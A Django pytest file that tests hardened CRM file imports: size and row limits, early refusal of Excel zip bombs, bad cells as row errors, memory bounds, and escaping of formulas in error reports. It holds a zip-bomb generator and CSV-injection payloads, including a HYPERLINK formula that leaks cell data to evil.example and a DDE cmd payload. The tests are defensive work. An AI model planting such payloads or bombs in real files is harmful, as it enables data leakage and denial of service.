"""Snapshot file imports streamed and bounded (issue #14, finding 8): a size and a row
limit, Excel zip bombs refused before they are opened, a bad cell (NUL included) is a
row error and never a failed job, and memory does not grow with the rows."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.urls import reverse

from clients.imports import run_import
from clients.models import AccountSnapshot, ImportJob
from tests.factories import make_client

HEADER = b"client_no,date,total_assets\n"


def make_job(org, name: str, content: bytes) -> ImportJob:
    return ImportJob.objects.create(
        branch=org.bj, file=SimpleUploadedFile(name, content), original_name=name,
        created_by=org.bm,
    )  # fmt: skip


def bomb_xlsx(unpacked_mb: int) -> bytes:
    """An .xlsx whose sheet unpacks to `unpacked_mb` MB of repeated rows."""
    from openpyxl import Workbook

    book = Workbook()
    book.active.append(["client_no", "date", "total_assets"])
    plain = io.BytesIO()
    book.save(plain)
    out = io.BytesIO()
    row = b'<row><c t="inlineStr"><is><t>1100000001</t></is></c></row>'
    with zipfile.ZipFile(plain) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                head, tail = data.split(b"</sheetData>")
                with dst.open(info.filename, "w") as sheet:
                    sheet.write(head)
                    chunk = row * (1024 * 1024 // len(row))
                    for _mb in range(unpacked_mb):
                        sheet.write(chunk)
                    sheet.write(b"</sheetData>" + tail)
            else:
                dst.writestr(info, data)
    return out.getvalue()


def test_upload_page_refuses_an_oversized_file_with_a_clear_message(client, org, settings,
                                                                    tmp_path):  # fmt: skip
    settings.MEDIA_ROOT = tmp_path
    settings.CRM_IMPORT_MAX_BYTES = 1000
    client.force_login(org.bm)
    big = SimpleUploadedFile("s.csv", HEADER + b"1100000001,2025-10-31,1\n" * 100)
    response = client.post(reverse("clients:import"), {"file": big})
    assert response.status_code == 400
    assert "文件超过" in response.content.decode()  # the upload rule (crm.uploads) refuses it
    assert not ImportJob.objects.exists()


def test_an_excel_zip_bomb_is_refused_quickly_on_upload_and_in_the_task(client, org, settings,
                                                                        tmp_path):  # fmt: skip
    """A few hundred KB unpacking to 111 MB took 147 s of the worker; now it is refused
    from the zip's table of contents, before it is opened."""
    settings.MEDIA_ROOT = tmp_path
    content = bomb_xlsx(111)
    assert len(content) < 400 * 1024
    client.force_login(org.bm)
    started = time.monotonic()
    response = client.post(reverse("clients:import"),
                           {"file": SimpleUploadedFile("s.xlsx", content)})  # fmt: skip
    assert time.monotonic() - started < 2
    assert response.status_code == 400
    assert "解压后" in response.content.decode() and not ImportJob.objects.exists()

    job = make_job(org, "s.xlsx", content)  # stored some other way: the task refuses it too
    started = time.monotonic()
    assert run_import(job.pk) == 0
    assert time.monotonic() - started < 2
    job.refresh_from_db()
    assert job.status == "failed" and "解压后" in job.message


def test_an_excel_file_over_the_unpacked_limit_is_refused(org, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    settings.CRM_IMPORT_MAX_UNPACKED_BYTES = 1024 * 1024
    job = make_job(org, "s.xlsx", bomb_xlsx(2))
    assert run_import(job.pk) == 0
    job.refresh_from_db()
    assert job.status == "failed" and "解压后" in job.message


def test_a_file_over_the_row_limit_is_refused_before_anything_is_stored(org, settings,
                                                                        tmp_path):  # fmt: skip
    settings.MEDIA_ROOT = tmp_path
    settings.CRM_IMPORT_MAX_ROWS = 5
    make_client(org.am, client_no="1100000001")
    rows = b"".join(b"1100000001,2025-10-%02d,1\n" % day for day in range(1, 7))
    job = make_job(org, "s.csv", HEADER + rows)
    assert run_import(job.pk) == 0
    job.refresh_from_db()
    assert job.status == "failed" and "6" in job.message and "5" in job.message
    assert not AccountSnapshot.objects.exists()
    settings.CRM_IMPORT_MAX_ROWS = 6
    job = make_job(org, "s.csv", HEADER + rows)
    assert run_import(job.pk) == 6


@pytest.mark.parametrize("bad_line", [
    b"1100000001\x00,2025-10-02,1",  # NUL in the client number: echoed by the report
    b"1100000001,2025-10-02,1\x00",  # NUL in a number
    b"1100000001,2025-10-02,\xff\xfe",  # not UTF-8
    b"1100000001,2025-10-02," + b"9" * 200_000,  # a cell beyond the CSV field limit
])  # fmt: skip
def test_a_bad_cell_is_a_row_error_never_a_failed_job(org, settings, tmp_path, bad_line):
    settings.MEDIA_ROOT = tmp_path
    make_client(org.am, client_no="1100000001")
    content = HEADER + b"1100000001,2025-10-01,1\n" + bad_line + b"\n1100000001,2025-10-03,1\n"
    job = make_job(org, "s.csv", content)
    assert run_import(job.pk) == 2
    job.refresh_from_db()
    assert (job.status, job.total_rows, job.stored_rows, job.error_rows) == ("done", 3, 2, 1)
    assert job.error_report.splitlines()[1].startswith("3,")  # the file line of the bad row
    assert "\x00" not in job.error_report


def test_the_error_report_neutralises_formulas(client, org, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    hostile = '=HYPERLINK("http://evil.example/?"&B2,"x")'
    content = HEADER + ('"' + hostile.replace('"', '""') + '",2025-10-01,1\n').encode()
    content += b"+cmd|' /C calc'!A0,2025-10-01,1\n@SUM(A1),2025-10-01,1\n"
    job = make_job(org, "s.csv", content)
    run_import(job.pk)
    client.force_login(org.bm)
    report = client.get(reverse("clients:import-errors", args=[job.pk])).content.decode()
    cells = [row[1] for row in csv.reader(io.StringIO(report.lstrip("\ufeff")))][1:]
    assert cells == ["'" + hostile, "'+cmd|' /C calc'!A0", "'@SUM(A1)"]
    # a report stored before the safe writer is made safe when downloaded
    ImportJob.objects.filter(pk=job.pk).update(error_report="row,client_no,errors\r\n2,=1+1,x\r\n")
    report = client.get(reverse("clients:import-errors", args=[job.pk])).content.decode()
    assert report == "\ufeffrow,client_no,errors\r\n2,'=1+1,x\r\n"


def test_an_excel_file_is_streamed_like_a_csv(org, settings, tmp_path):
    from datetime import datetime

    from openpyxl import Workbook

    settings.MEDIA_ROOT = tmp_path
    make_client(org.am, client_no="1100000001")
    book = Workbook()
    sheet = book.active
    sheet.append(["client_no", "date", "total_assets"])
    sheet.append(["1100000001", datetime(2025, 10, 1), 100])
    sheet.append([None, None, None])  # a blank row: skipped
    sheet.append(["nope", "2025-10-01", 1])
    out = io.BytesIO()
    book.save(out)
    job = make_job(org, "s.xlsx", out.getvalue())
    assert run_import(job.pk) == 1
    job.refresh_from_db()
    assert (job.total_rows, job.error_rows) == (2, 1)
    assert "4,nope" in job.error_report  # its row in the sheet


# --- Memory ---------------------------------------------------------------------------
WORKER = Path(__file__).parents[1] / "bench" / "import_worker.py"


def peak_rss_mb(job: ImportJob) -> float:
    """Import the job in a new Python process (as a Celery worker would) and return that
    process's peak resident memory in MB."""
    from django.conf import settings

    connection.close()  # the child opens its own
    done = subprocess.run(
        [sys.executable, str(WORKER), str(job.pk), connection.settings_dict["NAME"],
         str(settings.MEDIA_ROOT)],
        capture_output=True, text=True, timeout=3600, check=False,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr[-3000:]
    return float(done.stdout.split()[-1])


def error_rows_file(rows: int) -> bytes:
    """Rows of unknown clients: every one goes to the error report (the worst case found:
    300,000 error rows took 3.7 GB)."""
    return HEADER + b"".join(b"99%08d,2025-10-01,1\n" % i for i in range(rows))


@pytest.mark.django_db(transaction=True, serialized_rollback=True)
def test_memory_does_not_grow_with_the_rows(org, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    small = make_job(org, "small.csv", error_rows_file(10_000))
    large = make_job(org, "large.csv", error_rows_file(50_000))
    small_mb, large_mb = peak_rss_mb(small), peak_rss_mb(large)
    print(f"peak RSS of an import: 10,000 rows {small_mb:.0f} MB, 50,000 rows {large_mb:.0f} MB")
    large.refresh_from_db()
    assert (large.status, large.error_rows) == ("done", 50_000)
    assert large_mb < small_mb + 15
